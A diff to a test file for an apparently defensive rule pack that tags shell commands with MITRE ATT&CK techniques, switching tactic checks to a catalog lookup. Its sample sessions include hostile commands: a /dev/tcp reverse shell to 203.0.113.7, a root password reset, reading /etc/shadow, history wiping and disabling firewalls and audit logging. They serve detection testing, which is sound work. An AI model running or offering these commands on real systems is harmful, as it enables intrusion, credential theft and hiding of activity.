@@ -4,19 +4,8 @@ import {before, describe, it} from 'node:test'
 
 import type {NewTtpTag} from '../../src/db/schema.js'
 import {Matcher, MAX_EVIDENCE_LENGTH, MAX_TEXT_LENGTH} from '../../src/ttp/matcher.js'
-import {loadRules} from '../../src/ttp/rule-loader.js'
+import {loadRules, loadTechniqueIndex} from '../../src/ttp/rule-loader.js'
 import type {CompiledRule} from '../../src/ttp/rule-schema.js'
-
-// The ATT&CK Enterprise tactics each technique the pack uses belongs to.
-const TACTICS_OF: Readonly<Record<string, readonly string[]>> = {
-  T1003: ['TA0006'], T1016: ['TA0007'], T1018: ['TA0007'], T1021: ['TA0008'], T1027: ['TA0005'], T1033: ['TA0007'],
-  T1037: ['TA0003', 'TA0004'], T1046: ['TA0007'], T1049: ['TA0007'], T1053: ['TA0002', 'TA0003', 'TA0004'], T1057: ['TA0007'],
-  T1059: ['TA0002'], T1069: ['TA0007'], T1070: ['TA0005'], T1082: ['TA0007'], T1083: ['TA0007'], T1087: ['TA0007'],
-  T1095: ['TA0011'], T1098: ['TA0003', 'TA0004'], T1105: ['TA0011'], T1110: ['TA0006'], T1136: ['TA0003'], T1140: ['TA0005'],
-  T1222: ['TA0005'], T1485: ['TA0040'], T1496: ['TA0040'], T1497: ['TA0005', 'TA0007'], T1505: ['TA0003'], T1518: ['TA0007'],
-  T1543: ['TA0003', 'TA0004'], T1546: ['TA0003', 'TA0004'], T1548: ['TA0004', 'TA0005'], T1552: ['TA0006'], T1562: ['TA0005'],
-  T1572: ['TA0011'], T1190: ['TA0001'], T1595: ['TA0043'],
-}
 
 // What administrators type all day: none of it is an attack technique.
 const BENIGN = [
@@ -47,8 +36,9 @@ const SESSIONS: ReadonlyArray<readonly [string, readonly string[]]> = [
   ['echo "root:TR7v5UuFuzWi"|chpasswd|bash', ['T1059.004', 'T1098']],
   ['uname -a; w; whoami; cat /etc/passwd; cat /etc/shadow', ['T1003.008', 'T1033', 'T1082', 'T1087.001']],
   ['ps aux | grep -v grep | grep xmrig; pkill -9 -f kinsing', ['T1057']],
-  ['export HISTFILE=/dev/null; unset HISTFILE; history -c', ['T1070.003']],
+  ['export HISTFILE=/dev/null; unset HISTFILE; history -c', ['T1070.003', 'T1562.003']],
   ['setenforce 0; systemctl stop firewalld; ufw disable; iptables -F', ['T1562.001', 'T1562.004']],
+  ['systemctl stop rsyslog; auditctl -e 0; service auditd stop', ['T1562.006', 'T1562.012']],
   ['bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', ['T1059.004', 'T1095']],
   ['crontab -l', []],
   ['enable', []],
@@ -65,6 +55,7 @@ describe('the shipped rule pack', () => {
     matcher = new Matcher(rules)
   })
 
+  const partCount = (): number => rules.filter((rule) => rule.field === 'command').reduce((sum, rule) => sum + rule.parts.length, 0)
   const techniques = (text: string): string[] => [...new Set(tagsFor(matcher, text).map((tag) => tag.sub_technique_id ?? tag.technique_id))].sort()
 
   it('has broad coverage, one file per tactic area, and unique ids', () => {
@@ -79,11 +70,14 @@ describe('the shipped rule pack', () => {
     }
   })
 
-  it('uses each technique under one of its own ATT&CK tactics', () => {
+  it('uses each technique, current in the shipped ATT&CK catalog, under one of its own tactics', async () => {
+    const index = await loadTechniqueIndex()
     for (const rule of rules) {
       for (const emit of rule.emits) {
-        assert.ok(TACTICS_OF[emit.technique], `${rule.id}: ${emit.technique} is not in the test's tactic table`)
-        assert.ok(TACTICS_OF[emit.technique]?.includes(emit.tactic), `${rule.id}: ${emit.technique} is not a ${emit.tactic} technique`)
+        const technique = index.technique(emit.subTechnique ?? emit.technique)
+        assert.ok(technique, `${rule.id}: ATT&CK ${index.version} does not know ${emit.subTechnique ?? emit.technique}`)
+        assert.ok(!technique.revoked && !technique.deprecated, `${rule.id}: ${emit.subTechnique ?? emit.technique} is revoked or deprecated`)
+        assert.ok(technique.tactics.includes(emit.tactic), `${rule.id}: ${emit.subTechnique ?? emit.technique} is not a ${emit.tactic} technique`)
       }
     }
   })
@@ -213,7 +207,7 @@ describe('the shipped rule pack', () => {
         const match = matcher.match('command', text)
         assert.ok(match.examined <= 6 * text.length, name)
         assert.ok(match.windows <= (5 * text.length) / MAX_TEXT_LENGTH + 2, `${name}: ${match.windows} windows`)
-        assert.ok(match.regexRuns <= rules.length * match.windows, name)
+        assert.ok(match.regexRuns <= partCount() * match.windows, name)
       }
 
       // what is still visible is still seen: the payload after a megabyte of separators or short commands
@@ -245,7 +239,7 @@ describe('the shipped rule pack', () => {
       const match = matcher.match('command', text)
       assert.ok(match.examined <= 6 * text.length, `text ${i}: examined ${match.examined} of ${text.length}`)
       assert.ok(match.windows <= (5 * text.length) / MAX_TEXT_LENGTH + 2, `text ${i}: ${match.windows} windows`)
-      assert.ok(match.regexRuns <= rules.length * match.windows, `text ${i}: ${match.regexRuns} regular expressions over ${match.windows} windows`)
+      assert.ok(match.regexRuns <= partCount() * match.windows, `text ${i}: ${match.regexRuns} regular expressions over ${match.windows} windows`)
       for (const tag of tagsFor(matcher, text)) {
         assert.ok(rules.some((rule) => rule.id === tag.rule_id), `text ${i}: unknown rule ${tag.rule_id}`)
         assert.ok(tag.evidence.length <= MAX_EVIDENCE_LENGTH + 1, `text ${i}: ${tag.rule_id} evidence of ${tag.evidence.length}`)
